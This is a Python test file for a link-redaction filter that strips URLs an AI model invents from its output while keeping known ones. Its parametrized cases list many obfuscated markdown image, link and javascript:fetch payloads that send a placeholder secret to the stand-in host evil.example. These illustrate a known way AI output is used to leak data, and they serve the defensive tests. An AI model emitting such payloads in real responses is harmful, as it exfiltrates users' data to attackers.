import re
import time
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.redaction.links import known_in, plain_links
from core.text import Language

KNOWN = known_in(["见 https://wiki.corp/page?id=1。"])


def shown(text: str) -> str:
    return plain_links(text, KNOWN, Language.EN)


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=S3CRET)",
        "![x](//evil.example/S3CRET)",
        "![x][a]\n\n[a]: http://evil.example/S3CRET",
        "[click](https://evil.example/S3CRET)",
        '[click](https://evil.example/S3CRET "title")',
        "<https://evil.example/S3CRET>",
        "https://S3CRET.evil.example",
        "www.evil.example/S3CRET",
        "evil.example/?q=S3CRET",
        "<img src=https://evil.example/S3CRET>",
        '<a href="https://evil.example/S3CRET">x</a>',
        "[x](javascript:fetch('//evil.example/S3CRET'))",
        "data:text/html,S3CRET",
        "mailto:a@evil.example?body=S3CRET",
        "HTTPS://EVIL.example/S3CRET",
        "[x](http:evil.example/S3CRET)",
        "![x](http://evil.example/(S3CRET))",
        "![a [b]](https:/evil.example/?d=S3CRET)",
        "![a\\]b](https:/evil.example/x?d=S3CRET)",
        "![a[b]c](http:evil.example/x?d=S3CRET)",
        "[a [b]](https:/evil.example/?d=S3CRET)",
        "[a\\]b](https:/evil.example/x?d=S3CRET)",
        "[a[b]c](http:evil.example/x?d=S3CRET)",
        "[a[b]c](/\\evil.example/S3CRET)",
        "[a](/&#47;evil.example/S3CRET)",
        "see evil.example:8080/x?d=S3CRET",
        "https:\\\\evil.example/S3CRET",
        "https:/evil.example/S3CRET",
        "HTTP:evil.example/S3CRET",
        "访问www.evil.example/S3CRET",
        "_www.evil.example/S3CRET_",
        "[x][r]\n\n> [r]: https&colon;/evil.example/S3CRET",
        "![x][a\\]b]\n\n- [a\\]b]: /\\evil.example/S3CRET",
    ],
)
def test_an_address_the_model_made_up_goes(text: str) -> None:
    left = shown(f"before {text} after")
    assert "S3CRET" not in left or "evil" not in left.lower()
    assert left.startswith("before")


def test_an_address_that_was_named_stays_and_is_shown() -> None:
    assert (
        shown("see [the page](https://wiki.corp/page?id=1)") == "see the page (https://wiki.corp/page?id=1)"
    )
    assert shown("https://wiki.corp/page?id=1") == "https://wiki.corp/page?id=1"
    assert "id=12" not in shown("https://wiki.corp/page?id=12")
    assert shown("[plan](/plans/P7KQ2M)") == "[plan](/plans/P7KQ2M)"


@pytest.mark.parametrize(
    "text",
    [
        "ROI 2.5，A/B 测试，12/31 前",
        "导出到 /home/h/exports/P7KQ2M-v3.xlsx",
        "[D3K7P2] 规则",
        "12:30 开会，5:3:2 分配，见第3.2节",
        "HTTP:80 端口，通过FTP:上传，file:P7KQ2M-v3.xlsx",
        "约 3.5:1/月，10:30/11:30，C:\\exports\\a",
        "- [P1]: 提升",
        "[注]: 说明一句",
        "x [y [z]](/plans/P7KQ2M)",
    ],
)
def test_what_is_no_address_stays(text: str) -> None:
    assert shown(text) == text


_PIECES = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "a",
    "\\",
    "/",
    ":",
    "<",
    ">",
    " ",
    "\n",
    "- ",
    "](",
    "]: ",
    "https:",
    "evil.co",
]
_TARGETS = ["https:/evil.co/x", "http:evil.co/x", "/\\evil.co/x", "https&colon;/evil.co/x"]
_MARKDOWN = MarkdownIt("commonmark", {"html": False})
_MARKDOWN.validateLink = lambda url: True  # type: ignore[method-assign]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=14), st.sampled_from(_TARGETS))
def test_no_target_that_is_left_leads_out(pieces: list[str], target: str) -> None:
    """What CommonMark makes of it has no link and no picture with an address of another site."""
    middle = len(pieces) // 2
    text = "".join([*pieces[:middle], "[r](", target, ")", *pieces[middle:], f"\n\n[r]: {target}"])
    for token in _MARKDOWN.parse(shown(text)):
        for part in [token, *(token.children or ())]:
            address = str(part.attrs.get("href", part.attrs.get("src", "")))
            assert not re.match(r"\s*(?:[a-z]+:|[/\\]{2}).*[a-z]", unquote(address), re.I), text


def test_long_texts_take_little_time() -> None:
    for piece in (
        "![",
        "[a](",
        "](",
        "a.",
        "www.",
        "//",
        "<img ",
        "[a]:",
        "http://",
        "a.bc/",
        "- ",
        "(",
        "[[",
        "[a]:/",
        "](a",
        "http:",
        "https:/",
        "/\\",
        "a.bc:1",
        "> [",
        "[\\",
    ):
        begun = time.perf_counter()
        shown(piece * (50_000 // len(piece)))
        assert time.perf_counter() - begun < 3, piece
